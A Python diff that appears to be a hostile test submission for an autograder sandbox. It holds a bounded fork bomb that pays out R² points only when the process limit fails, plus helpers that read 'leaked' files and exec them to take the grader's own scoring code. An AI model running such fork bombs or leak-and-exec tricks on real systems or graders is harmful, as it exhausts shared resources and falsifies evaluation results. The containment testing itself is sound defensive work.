@@ -1,0 +1,88 @@
+"""A fork bomb that forks until refused, bounded by the attack itself (at most 2,000 forks tried,
+each child sleeping at most 30 s) so that the test suite survives even if containment fails."""
+
+import errno
+import os
+import time
+
+import numpy as np
+
+MAX_FORKS = 2000
+NAP = 30  # seconds each child sleeps, at most
+JOB_BOUND = 64  # processes a job may have at once, as the course documents
+
+_done = None  # the bomb goes off once per process: the children stay for later calls
+
+NO_POINTS = -999.0  # never a right R²: a failed attack must not earn a point by luck
+
+
+def mean_squared_error(y_true, y_pred):
+    errors = np.asarray(y_true, dtype=float) - np.asarray(y_pred, dtype=float)
+    return float(np.mean(errors**2))
+
+
+def _bomb():
+    global _done
+    if _done is None:
+        started, refused = 0, {}
+        for _ in range(MAX_FORKS):
+            try:
+                pid = os.fork()
+            except OSError as error:
+                name = errno.errorcode.get(error.errno or 0, "?")
+                refused[name] = refused.get(name, 0) + 1
+                continue
+            if pid == 0:
+                try:
+                    time.sleep(NAP)
+                finally:
+                    os._exit(0)
+            started += 1
+        _done = {"forked": started, "refused": refused}
+    return _done
+
+
+def attack():
+    return _bomb()
+
+
+def r2_score(y_true, y_pred):
+    if _bomb()["forked"] >= JOB_BOUND:
+        return _right_answer(y_true, y_pred)
+    return NO_POINTS
+
+
+def _attempt(action):
+    """What one try gave: {"ok": its result}, or the name of the error that stopped it."""
+    try:
+        return {"ok": action()}
+    except OSError as error:
+        return {"errno": errno.errorcode.get(error.errno or 0, str(error.errno))}
+    except Exception as error:  # any other failure is evidence too
+        return {"error": type(error).__name__}
+
+
+def _read(path):
+    with open(path, errors="replace") as leaked:
+        return leaked.read()
+
+
+def _score_with(leak, y_true, y_pred):
+    """Earn the R² points with what leaked: its r2_score if it has one, else its answers."""
+    namespace = {}
+    try:
+        exec(leak, namespace)
+        return float(namespace["r2_score"](y_true, y_pred))
+    except Exception:
+        return _right_answer(y_true, y_pred)
+
+
+def _right_answer(y_true, y_pred):
+    """The R² a successful attack gives away (a real attacker copies it out of the leak)."""
+    y_true = np.asarray(y_true, dtype=float)
+    y_pred = np.asarray(y_pred, dtype=float)
+    ss_res = np.sum((y_true - y_pred) ** 2)
+    ss_tot = np.sum((y_true - y_true.mean()) ** 2)
+    if ss_tot == 0:
+        return 1.0 if ss_res == 0 else 0.0
+    return float(1.0 - ss_res / ss_tot)
